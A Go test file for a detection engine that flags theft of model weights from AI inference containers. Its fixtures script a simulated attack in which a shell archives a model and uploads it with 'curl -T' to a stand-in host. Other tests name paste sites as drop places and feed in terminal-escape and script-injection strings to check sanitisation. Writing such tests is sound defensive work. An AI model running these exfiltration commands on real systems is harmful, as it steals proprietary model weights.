package detect

import (
	"encoding/json"
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"github.com/prometheus/client_golang/prometheus"

	"picket/event"
)

var began = time.Date(2026, 3, 4, 5, 6, 7, 0, time.UTC)

// scene is a server in a container, with what an attacker makes it do.
type scene struct {
	server, shell, tar, curl *event.Process
	model                    *event.Model
}

func newScene(container string) *scene {
	c := &event.Container{ID: container, Runtime: "runc"}
	s := &scene{}
	w := &event.Workload{ID: "w-" + container, Kind: event.Inference, Engine: "llama.cpp", Name: "llama-3-8b", Root: event.Key{PID: 10, Start: 100}}
	s.model = &event.Model{Path: "/models/llama-3-8b", Name: "llama-3-8b", Format: "safetensors", Workload: w.ID}
	process := func(pid uint32, exe, invoked, cmdline string, parent *event.Process) *event.Process {
		p := &event.Process{
			UID: fmt.Sprintf("%s-%d", container, pid), PID: pid, TID: pid, StartBoot: uint64(pid) * 10, Start: began, Exe: exe, Invoked: invoked,
			Cmdline: cmdline, User: "root", Parent: parent, Container: c, Workload: w,
		}
		p.Seal()
		return p
	}
	s.server = process(10, "/usr/local/bin/llama-server", "", "llama-server -m /models/llama-3-8b/model.safetensors", nil)
	s.shell = process(30, "/usr/bin/busybox", "/bin/sh", "/bin/sh -c tar czf /tmp/c.tgz /models/llama-3-8b; curl -T /tmp/c.tgz http://203.0.113.66/u", s.server)
	s.tar = process(40, "/usr/bin/busybox", "/proc/self/exe", "tar czf /tmp/c.tgz /models/llama-3-8b", s.shell)
	s.curl = process(44, "/usr/bin/curl", "", "curl -T /tmp/c.tgz http://203.0.113.66/u", s.shell)
	return s
}

func at(seconds int, kind event.Kind, p *event.Process) *event.Event {
	return &event.Event{Kind: kind, Time: began.Add(time.Duration(seconds) * time.Second), Host: "node1", Process: p}
}

func (s *scene) read(seconds int) *event.Event {
	e := at(seconds, event.FileRead, s.tar)
	e.File = event.File{Path: "/models/llama-3-8b/model.safetensors", Ino: 7, Dev: 8, Size: 8 << 20, Model: s.model}
	return e
}

func (s *scene) send(seconds int) *event.Event {
	e := at(seconds, event.NetSend, s.curl)
	e.Net = event.Net{Local: netip.MustParseAddrPort("192.0.2.10:4000"), Remote: netip.MustParseAddrPort("203.0.113.66:80"), Protocol: "tcp", Initiated: true, BytesOut: 8_400_000}
	return e
}

func (s *scene) theft() []*event.Event {
	return []*event.Event{at(0, event.ProcessStart, s.shell), at(1, event.ProcessStart, s.tar), s.read(2), at(3, event.ProcessStart, s.curl), s.send(14)}
}

func engine(t testing.TB, o Options) *Engine {
	t.Helper()
	if o.Threats == nil {
		o.Threats = shipped(t)
	}
	e, err := New(o)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func names(findings []event.Finding) (out []string) {
	for _, f := range findings {
		out = append(out, f.Rule.Name)
	}
	return out
}

func play(e *Engine, events []*event.Event) (out []event.Finding) {
	for _, ev := range events {
		out = append(out, e.Process(ev)...)
	}
	return out
}

func TestTheftIsToldFromEndToEnd(t *testing.T) {
	got := play(engine(t, Options{}), newScene("c1").theft())
	want := []string{"shell_spawned_by_model_server", "model_archived", "weights_read_by_stranger", "weights_stolen"}
	if d := cmp.Diff(want, names(got)); d != "" {
		t.Fatal(d)
	}
	f := got[3]
	const story = "tar (pid 40), in container c1 of the inference server llama-3-8b (llama.cpp), read the weights of model llama-3-8b, which it does not serve: " +
		"/models/llama-3-8b/model.safetensors; then, 12 s later, curl (pid 44), in container c1 of the inference server llama-3-8b (llama.cpp), sent 8.4 MB to 203.0.113.66:80."
	if d := cmp.Diff(story, f.Summary); d != "" {
		t.Error(d)
	}
	if f.Severity != event.Critical || f.Host != "node1" || !f.Time.Equal(began.Add(14*time.Second)) || f.Count != 2 || len(f.Events) != 2 {
		t.Errorf("severity %v, host %s, time %v, count %d, %d events", f.Severity, f.Host, f.Time, f.Count, len(f.Events))
	}
	var kinds []string
	for _, ent := range f.Entities {
		kinds = append(kinds, string(ent.Kind)+" "+ent.ID)
	}
	for _, want := range []string{"process c1-40", "process c1-44", "container c1", "workload w-c1", "model node1:/models/llama-3-8b:w-c1", "address 203.0.113.66", "user node1/root", "host node1"} {
		if !slices.Contains(kinds, want) {
			t.Errorf("entity %s is missing from %v", want, kinds)
		}
	}
	var tree []string
	for _, p := range f.Processes {
		tree = append(tree, p.UID+" below "+p.ParentUID)
	}
	if d := cmp.Diff([]string{"c1-44 below c1-30", "c1-30 below c1-10", "c1-10 below ", "c1-40 below c1-30"}, tree); d != "" {
		t.Error(d)
	}
	if d := cmp.Diff([]event.Technique{
		{Framework: "attack", ID: "T1041", Name: "Exfiltration Over C2 Channel", Tactic: "exfiltration"},
		{Framework: "atlas", ID: "AML.T0025", Name: "Exfiltration via Cyber Means", Tactic: "exfiltration"},
		{Framework: "atlas", ID: "AML.T0048.004", Name: "AI Intellectual Property Theft", Tactic: "impact"},
	}, f.Techniques); d != "" {
		t.Error(d)
	}
	if f.Model == nil || f.Model.Name != "llama-3-8b" || f.Container == nil || f.Workload == nil {
		t.Errorf("model %v, container %v, workload %v", f.Model, f.Container, f.Workload)
	}
}

func TestReplayGivesTheSameFindings(t *testing.T) {
	a, b := play(engine(t, Options{}), newScene("c1").theft()), play(engine(t, Options{}), newScene("c1").theft())
	if d := cmp.Diff(a, b); d != "" {
		t.Error(d)
	}
	seen := map[string]bool{}
	for _, f := range a {
		if len(f.ID) != 32 || seen[f.ID] {
			t.Errorf("%s: id %q is not its own", f.Rule.Name, f.ID)
		}
		seen[f.ID] = true
	}
}

func TestAProcessFoundAgainIsTheSameFinding(t *testing.T) {
	s := newScene("c1")
	first := engine(t, Options{}).Process(at(0, event.ProcessStart, s.shell))
	again := engine(t, Options{}).Process(at(90, event.ProcessSeen, s.shell))
	if len(first) != 1 || len(again) != 1 || first[0].ID != again[0].ID {
		t.Errorf("got %v and %v, want one id", first, again)
	}
}

func TestAHalfSeenSequenceSurvivesARestart(t *testing.T) {
	s := newScene("c1")
	before := engine(t, Options{})
	play(before, s.theft()[:4])
	state, changed := before.Snapshot()
	if !changed {
		t.Fatal("nothing to write down")
	}
	if _, changed := before.Snapshot(); changed {
		t.Error("written down twice")
	}
	after := engine(t, Options{})
	if err := after.Restore(state); err != nil {
		t.Fatal(err)
	}
	got, want := after.Process(s.send(14)), before.Process(s.send(14))
	if d := cmp.Diff(want, got); d != "" || len(got) != 1 {
		t.Errorf("%d findings; %s", len(got), d)
	}
	for _, bad := range []string{"", "{", `{"version":99}`, `{"version":1,"sequences":{"x":[]}}`} {
		err := after.Restore([]byte(bad))
		if (err == nil) != strings.Contains(bad, `"x"`) {
			t.Errorf("restore of %q: %v", bad, err)
		}
	}
}

func TestSequencesKeepTheirWindowAndGroup(t *testing.T) {
	a, b := newScene("c1"), newScene("c2")
	for name, c := range map[string]struct {
		events []*event.Event
		want   bool
	}{
		"in time":            {[]*event.Event{a.read(0), a.send(600)}, true},
		"too late":           {[]*event.Event{a.read(0), a.send(601)}, false},
		"the last read runs": {[]*event.Event{a.read(0), a.read(500), a.send(1000)}, true},
		"another container":  {[]*event.Event{a.read(0), b.send(5)}, false},
		"backwards":          {[]*event.Event{a.send(0), a.read(5)}, false},
		"once a window":      {[]*event.Event{a.read(0), a.send(5), a.send(6), a.send(400)}, true},
		"two containers":     {[]*event.Event{a.read(0), b.read(1), b.send(2)}, true},
	} {
		t.Run(name, func(t *testing.T) {
			n := 0
			for _, f := range play(engine(t, Options{}), c.events) {
				if f.Rule.Name == "weights_stolen" {
					n++
				}
			}
			if n > 1 || (n == 1) != c.want {
				t.Errorf("%d findings, want one: %v", n, c.want)
			}
		})
	}
}

// late is how late an event may come.
const late = 30 * time.Second

func TestAdvanceForgetsWhatIsOver(t *testing.T) {
	e := engine(t, Options{})
	e.Process(newScene("c1").read(0))
	if e.Stats().Groups != 1 {
		t.Fatalf("%d groups, want 1", e.Stats().Groups)
	}
	e.Advance(began.Add(10*time.Minute + late))
	if e.Stats().Groups != 1 {
		t.Error("the window was closed too early")
	}
	e.Advance(began.Add(10*time.Minute + late + time.Second))
	if e.Stats().Groups != 0 || len(e.repeats.seen) != 0 {
		t.Errorf("%d groups and %d repeats are kept", e.Stats().Groups, len(e.repeats.seen))
	}
}

func TestMemoryIsBounded(t *testing.T) {
	e := engine(t, Options{})
	reader := func(i int) *event.Event {
		ev := newScene(fmt.Sprint("c", i)).read(i % 20)
		ev.Process.Cmdline = strings.Repeat("x", 3000)
		return ev
	}
	for i := range 2*maxGroups + 10 {
		e.Process(reader(i))
	}
	s := e.Stats()
	if s.Groups > maxGroups || s.Evicted == 0 || len(e.repeats.seen) > maxRepeats {
		t.Errorf("%d groups, %d evicted, %d repeats", s.Groups, s.Evicted, len(e.repeats.seen))
	}
	if total := uint64(s.Groups) + s.Evicted; total != 2*maxGroups+10 {
		t.Errorf("%d groups kept or counted as given up, want %d", total, 2*maxGroups+10)
	}
	if b := e.set.follow.Stats().Bytes; b > maxBytes {
		t.Errorf("%d bytes", b)
	}
	for i := range 3 * maxRepeats {
		ev := newScene("c1").read(0)
		ev.File.Path, ev.File.Model = fmt.Sprintf("/m/%d.bin", i), &event.Model{Path: fmt.Sprint("/m/", i)}
		e.Process(ev)
	}
	if n := len(e.repeats.seen); n > maxRepeats || len(e.repeats.order)-e.repeats.head != n {
		t.Errorf("%d repeats kept, %d in order", n, len(e.repeats.order)-e.repeats.head)
	}
}

func TestRepeatsAreCountedNotSaid(t *testing.T) {
	s, e := newScene("c1"), engine(t, Options{})
	var got []event.Finding
	for i := range 30 { // shards of one model
		ev := s.read(i)
		ev.File.Path = fmt.Sprintf("/models/llama-3-8b/model-%05d-of-00030.safetensors", i)
		got = append(got, e.Process(ev)...)
	}
	if len(got) != 1 || e.Stats().Repeats != 29 {
		t.Errorf("%d findings, %d repeats; want 1 and 29", len(got), e.Stats().Repeats)
	}
	later := e.Process(s.read(61))
	if len(later) != 1 || later[0].Count != 30 || later[0].ID == got[0].ID {
		t.Errorf("got %v, want a second finding that stands for 30 events", later)
	}
	for _, r := range e.Rules() {
		if r.Name == "weights_read_by_stranger" && r.Hits != 31 {
			t.Errorf("%d hits, want 31", r.Hits)
		}
	}
}

// One address serves many names: each is told of, and each once.
func TestNamesAtOneAddressAreNoRepeats(t *testing.T) {
	s, e := newScene("c1"), engine(t, Options{})
	var got []event.Finding
	for i, name := range []string{"transfer.sh", "pastebin.com", "transfer.sh"} {
		ev := at(i, event.NetTLS, s.curl)
		ev.Net = event.Net{Remote: netip.MustParseAddrPort("203.0.113.66:443"), Protocol: "tcp", Initiated: true, TLS: &event.TLS{ServerName: name}}
		got = append(got, e.Process(ev)...)
	}
	if d := cmp.Diff([]string{"drop_place_named", "drop_place_named"}, names(got)); d != "" || e.Stats().Repeats != 1 {
		t.Errorf("%d repeats, %s", e.Stats().Repeats, d)
	}
	if want := "transfer.sh at 203.0.113.66:443"; len(got) > 0 && !strings.Contains(got[0].Summary, want) {
		t.Errorf("says %q, not of %s", got[0].Summary, want)
	}
}

func TestBuildingBlocksAreSilent(t *testing.T) {
	s := newScene("c1")
	if got := engine(t, Options{}).Process(s.send(0)); got != nil {
		t.Errorf("got %v", names(got))
	}
	if got := engine(t, Options{MinLevel: event.Low}).Process(s.send(0)); len(got) != 1 {
		t.Errorf("got %v, want weights_sent_out", names(got))
	}
}

func TestWhatMatchesNothingAllocatesNothing(t *testing.T) {
	if raceEnabled {
		t.Skip("the race detector makes sync.Pool drop at random")
	}
	s, e := newScene("c1"), engine(t, Options{})
	start := at(0, event.ProcessStart, s.server)
	connect := s.send(0)
	connect.Kind, connect.Process = event.NetConnect, s.server
	read := s.read(0)
	read.Process = s.server
	own := s.send(0)
	own.Process = s.server
	write := at(0, event.FileWrite, s.server)
	write.File = event.File{Path: "/var/log/server.log"}
	for _, ev := range []*event.Event{start, connect, read, own, write, at(0, event.ProcessExit, s.server)} {
		if got := e.Process(ev); got != nil {
			t.Fatalf("%s: %v", ev.Kind, names(got))
		}
		if n := testing.AllocsPerRun(200, func() { e.Process(ev) }); n != 0 {
			t.Errorf("%s allocates %v times", ev.Kind, n)
		}
	}
}

func TestDemandNamesTheKindsThatRulesAreAbout(t *testing.T) {
	d := engine(t, Options{}).Demand()
	for _, k := range []event.Kind{event.ProcessStart, event.FileRead, event.FileWrite, event.FileRename, event.FileDelete, event.FileChmod, event.NetConnect, event.NetSend} {
		if !d[k] {
			t.Errorf("%s is not asked for", k)
		}
	}
	for _, k := range []event.Kind{event.FileMkdir, event.ProcessFork} {
		if d[k] {
			t.Errorf("%s is asked for, and no rule is about it", k)
		}
	}
}

func TestReloadKeepsOpenSequencesAndTheLastGoodRules(t *testing.T) {
	s, e := newScene("c1"), engine(t, Options{})
	e.Process(s.read(0))
	if err := e.Reload(shipped(t)); err != nil {
		t.Fatal(err)
	}
	if got := names(e.Process(s.send(5))); !slices.Contains(got, "weights_stolen") {
		t.Errorf("got %v: the half-seen sequence was lost", got)
	}
	broken := shipped(t)
	for i := range broken {
		broken[i].Rules = nil // its sequences now name rules that are not there
	}
	if err := e.Reload(broken); err == nil {
		t.Error("rules that do not fit together were taken")
	}
	if n := e.Stats().Rules; n < 14 {
		t.Errorf("%d rules left", n)
	}
}

func TestHostileTextIsTamed(t *testing.T) {
	s := newScene("c1")
	s.shell.Cmdline = "/bin/sh -c \x1b[2J\n" + strings.Repeat("<script>\xff\u202e", 4000)
	s.shell.Parent.Exe = "/x/\x1b]0;pwn\a\nserver"
	for i := range 30 {
		s.shell.Parent = &event.Process{UID: fmt.Sprint(i), PID: uint32(i), Exe: "/" + strings.Repeat("é", 5000), Cmdline: strings.Repeat("\x01", 20000), Parent: s.shell.Parent, Workload: s.shell.Workload}
	}
	got := engine(t, Options{}).Process(at(0, event.ProcessStart, s.shell))
	s.tar.Parent = s.shell
	got = append(got, engine(t, Options{}).Process(s.read(1))...)
	if len(got) == 0 {
		t.Fatal("no finding")
	}
	for _, f := range got {
		if strings.ContainsAny(f.Summary, "\x1b\n\a\u202e") || !utf8.ValidString(f.Summary) || len(f.Summary) > 4000 {
			t.Errorf("summary %q", f.Summary)
		}
		if len(f.Processes) > 2*maxNodes {
			t.Errorf("%d processes", len(f.Processes))
		}
		for _, ev := range f.Events {
			if len(ev) > maxRecord || !json.Valid(ev) {
				t.Errorf("record of %d bytes, valid: %v", len(ev), json.Valid(ev))
			}
		}
		b, err := json.Marshal(f)
		if err != nil || len(b) > 256<<10 {
			t.Errorf("finding of %d bytes: %v", len(b), err)
		}
	}
}

func TestEventsWithoutAProcessAreSafe(t *testing.T) {
	e := engine(t, Options{Host: "node1", MinLevel: event.Informational})
	for k := range event.Kinds {
		ev := &event.Event{Kind: k, Time: began}
		ev.File = event.File{Path: "/models/m/model.bin", Model: &event.Model{Path: "/models/m", Workload: "w"}}
		ev.Net.BytesOut, ev.Net.Remote = 1<<30, netip.MustParseAddrPort("203.0.113.1:3333")
		for _, f := range e.Process(ev) {
			if f.Host != "node1" {
				t.Errorf("%s: host %q", f.Rule.Name, f.Host)
			}
		}
	}
}

func TestMetricsAreRegisteredOnce(t *testing.T) {
	reg := prometheus.NewPedanticRegistry()
	e := engine(t, Options{Registerer: reg})
	play(e, newScene("c1").theft())
	families, err := reg.Gather()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]float64{}
	for _, f := range families {
		for _, m := range f.Metric {
			got[f.GetName()] += m.GetCounter().GetValue() + m.GetGauge().GetValue()
		}
	}
	for name, want := range map[string]float64{"picket_detect_events_total": 5, "picket_detect_findings_total": 4, "picket_detect_groups": 1, "picket_detect_rule_hits_total": 5} {
		if got[name] != want {
			t.Errorf("%s = %v, want %v", name, got[name], want)
		}
	}
}

// The agent's loop, its heartbeat and its check-points use one engine.
func TestUseByManyAtOnce(t *testing.T) {
	e := engine(t, Options{Registerer: prometheus.NewRegistry()})
	var wg sync.WaitGroup
	for range 4 {
		wg.Go(func() {
			for i := range 50 {
				play(e, newScene(fmt.Sprint("c", i)).theft())
				e.Snapshot()
				e.Rules()
				e.Demand()
				e.Advance(began)
			}
		})
	}
	for range 5 {
		if err := e.Reload(shipped(t)); err != nil {
			t.Error(err)
		}
	}
	wg.Wait()
}
